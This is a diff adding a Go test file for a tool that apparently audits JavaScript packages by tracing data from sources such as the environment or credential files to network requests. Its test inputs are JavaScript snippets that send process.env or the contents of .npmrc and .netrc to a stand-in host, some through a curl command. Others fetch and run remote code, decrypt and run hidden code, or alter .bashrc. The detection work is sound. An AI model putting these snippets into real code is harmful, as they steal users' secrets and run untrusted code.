@@ -1,0 +1,180 @@
+package chain
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/amalfi-audit/audit/internal/javascript"
+)
+
+// link summarises files given as path and content in turn, and joins them.
+func link(files ...string) []Chain {
+	summaries := make(map[string][]*Summary)
+	for i := 0; i < len(files); i += 2 {
+		f := javascript.Parse(files[i], []byte(files[i+1]), javascript.Options{})
+		concerned := Tells(f)
+		for u := range f.Uses() {
+			concerned = concerned || Concerns(f, &u)
+		}
+		if !concerned {
+			continue
+		}
+		if s := Summarise(f, f.Position); s != nil {
+			summaries[files[i]] = append(summaries[files[i]], s)
+		}
+	}
+	return Link(summaries)
+}
+
+// ways renders chains as "source > sink", each once.
+func ways(chains []Chain) []string {
+	var out []string
+	for i := range chains {
+		out = append(out, string(chains[i].Source)+" > "+string(chains[i].Sink))
+	}
+	slices.Sort(out)
+	return slices.Compact(out)
+}
+
+func TestChains(t *testing.T) {
+	const sent = "environment > request"
+	for _, test := range []struct {
+		name string
+		text string
+		want string // joined by ", "
+	}{
+		{"at once", "fetch('https://h.invalid', {method: 'POST', body: JSON.stringify(process.env)})", sent},
+		{"by names", "const https = require('https'); const e = process.env, s = Buffer.from(JSON.stringify(e)).toString('hex'); const r = https.request('https://h.invalid'); r.write(s); r.end()", sent},
+		{"destructured", "const {env: v} = process; fetch('https://h.invalid?' + Object.entries(v))", sent},
+		{"by a helper", "function send(x) { fetch('https://h.invalid', {body: x}) } function pack(o) { return JSON.stringify(o) } send(pack(process.env))", sent},
+		{"by a callback", "function each(o, cb) { cb(Object.values(o)) } each(process.env, v => fetch('https://h.invalid/' + v))", sent},
+		{"by a promise", "new Promise(done => done(process.env)).then(JSON.stringify).then(s => fetch('https://h.invalid/' + s))", sent},
+		{"await", "async function f() { const s = await g(process.env); await fetch('https://h.invalid/' + s) } f()", sent},
+		{"a generator", "function* parts(s) { yield s.slice(1) } for (const p of parts(JSON.stringify(process.env))) require('dns').lookup(p + '.h.invalid', () => {})", "environment > name lookup"},
+		{"a class", "class C { constructor() { this.d = process.env } go() { fetch('https://h.invalid', {body: this.text()}) } text() { return JSON.stringify(this.d) } } new C().go()", sent},
+		{"a list", "const all = []; all.push(process.env); fetch('https://h.invalid', {body: all})", sent},
+		{"a command", "require('child_process').execSync('curl -d ' + JSON.stringify(process.env) + ' https://h.invalid')", sent},
+		{"a file", "const fs = require('fs'), os = require('os'); fetch('https://h.invalid', {body: fs.readFileSync(os.homedir() + '/.npmrc')})", "credential file > request"},
+		{"files of a list", "const fs = require('fs'); for (const n of ['.netrc', '.npmrc']) fetch('https://h.invalid', {body: fs.readFileSync(process.env.HOME + '/' + n)})", "credential file > request"},
+		{"evaluated", "fetch('https://h.invalid/x.js').then(r => r.text()).then(t => eval(t))", "remote content > evaluation"},
+		{"written and run", "const fs = require('fs'), cp = require('child_process'), p = '/tmp/x'; require('https').get('https://h.invalid', r => r.pipe(fs.createWriteStream(p))); cp.exec(p)", "remote content > file that is run"},
+		{"deciphered", "const c = require('crypto'); const d = c.createDecipheriv('aes-256-cbc', k, v); new Function(d.update(x, 'hex', 'utf8') + d.final('utf8'))()", "deciphered text > evaluation"},
+		{"a key", "const c = require('crypto'); exports.sign = (privateKey, m) => { fetch('https://h.invalid', {headers: {id: privateKey}}); return c.sign(null, m, privateKey) }", "key material > request"},
+		{"a form", "document.addEventListener('submit', e => navigator.sendBeacon('https://h.invalid', new FormData(e.target)))", "form field > request"},
+		{"a shell profile", "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')", "text of the package > start-up file"},
+		{"itself", "require('fs').unlinkSync(__filename)", "text of the package > own files"},
+
+		{"a variable", "fetch(process.env.API_URL)", ""},
+		{"a test", "if (process.env) fetch('https://h.invalid')", ""},
+		{"the environment of a child", "require('child_process').spawn('node', ['x'], {env: process.env})", ""},
+		{"a signature", "const c = require('crypto'); exports.sign = (privateKey, m) => fetch('https://h.invalid', {body: c.sign(null, m, privateKey)})", ""},
+		{"a hash", "const c = require('crypto'), os = require('os'); fetch('https://h.invalid', {body: c.createHash('sha256').update(os.hostname()).digest('hex')})", ""},
+		{"another value", "const e = process.env, x = 'a'; fetch('https://h.invalid', {body: x})", ""},
+		{"printed", "console.log(process.env); fetch('https://h.invalid')", ""},
+		{"a comment", "/* fetch('https://h.invalid', {body: process.env}) */", ""},
+	} {
+		if got := strings.Join(ways(link("a.js", test.text)), ", "); got != test.want {
+			t.Errorf("%s: %q, want %q\n%s", test.name, got, test.want, test.text)
+		}
+	}
+}
+
+func TestLink(t *testing.T) {
+	got := link(
+		"index.js", "const {take} = require('./lib/take'); const send = require('./lib/send'); send(require('./lib/pack')(take()))",
+		"lib/take.js", "exports.take = () => process.env",
+		"lib/pack.js", "module.exports = x => Buffer.from(JSON.stringify(x)).toString('base64')",
+		"lib/send.js", "const https = require('https');\nmodule.exports = function (s) {\n  https.request('https://h.invalid').end(s);\n}",
+	)
+	if len(got) != 1 {
+		t.Fatalf("%d chains: %v", len(got), got)
+	}
+	c := got[0]
+	if c.Source != Environment || c.Sink != Request || c.From != "process.env" || c.To != "https#request.().end" {
+		t.Errorf("chain %+v", c)
+	}
+	var places []string
+	for _, s := range c.Steps {
+		places = append(places, fmt.Sprintf("%s:%d", s.Path, s.Line))
+	}
+	if places[0] != "lib/take.js:1" || places[len(places)-1] != "lib/send.js:3" || !slices.Contains(places, "index.js:1") {
+		t.Errorf("steps %v", places)
+	}
+	if again := link("lib/send.js", "x", "index.js", "y"); len(again) != 0 {
+		t.Errorf("chains of nothing: %v", again)
+	}
+}
+
+// hostile are programs that are to end within the bounds.
+func hostile() map[string]string {
+	var aliases strings.Builder
+	aliases.WriteString("const a0 = process.env;\n")
+	for i := 1; i < 100_000; i++ {
+		fmt.Fprintf(&aliases, "const a%d = a%d;", i, i-1)
+	}
+	var all strings.Builder
+	for i := range 2000 {
+		fmt.Fprintf(&all, "function f%d(x) { return f%d(x) + f%d(x) } f%d(process.env); fetch('https://h.invalid', {body: f%d});", i, (i+1)%2000, (i*7)%2000, i, i)
+	}
+	return map[string]string{
+		"aliases":   aliases.String() + "fetch('https://h.invalid', {body: a99999})",
+		"calls":     all.String(),
+		"recursion": "function f(g) { return g(f)(g(process.env)) } f(f); fetch(f(f(f)))",
+		"wide":      "const x = [" + strings.Repeat("process.env,", 50_000) + "]; for (const y of x) fetch(y)",
+		"deep":      "fetch(" + strings.Repeat("f(", 3000) + "process.env" + strings.Repeat(")", 3000) + ")",
+	}
+}
+
+func TestHostile(t *testing.T) {
+	for name, text := range hostile() {
+		first := link("a.js", text)
+		if diff := cmp.Diff(first, link("a.js", text)); diff != "" {
+			t.Errorf("%s: a second run differs:\n%s", name, diff)
+		}
+		if len(first) > MaxChains {
+			t.Errorf("%s: %d chains", name, len(first))
+		}
+	}
+	// Modules that load each other.
+	var files []string
+	for i := range 300 {
+		files = append(files, fmt.Sprintf("f%d.js", i), fmt.Sprintf("const n = require('./f%d'); module.exports = x => x || n(x); n(process.env); fetch(n(1))", (i+1)%300))
+	}
+	if got := ways(link(files...)); !slices.Equal(got, []string{"environment > request"}) {
+		t.Errorf("a ring of modules: %v", got)
+	}
+}
+
+func FuzzSummarise(f *testing.F) {
+	for _, seed := range []string{
+		"fetch('https://h.invalid', {body: process.env})", "const {a: [b]} = process.env; for (const x of b) eval(x)",
+		"exports.f = function* (x) { yield* x }; class C { #p; get q() { return this.#p } set q(v) { this.#p = v } }",
+		"document.addEventListener('input', async ({target: {value}}) => { new Image().src = await value })",
+		"module.exports = {a, b() {}, ...c}; export default (x) => import(x)", "a?.b?.(c)[d] ??= e", "new Promise(r => r(r))",
+	} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		if len(text) > 20_000 {
+			return
+		}
+		first := link("a.js", text, "b.js", "const a = require('./a'); fetch(a.f(process.env))")
+		for _, c := range first {
+			if len(c.Steps) == 0 || len(c.Steps) > MaxSteps {
+				t.Fatalf("%d steps", len(c.Steps))
+			}
+			for _, s := range c.Steps {
+				if s.Path == "" || s.Line < 1 || s.Column < 1 || len(s.Text) > MaxText {
+					t.Fatalf("step %+v", s)
+				}
+			}
+		}
+		if diff := cmp.Diff(first, link("a.js", text, "b.js", "const a = require('./a'); fetch(a.f(process.env))")); diff != "" {
+			t.Fatal(diff)
+		}
+	})
+}
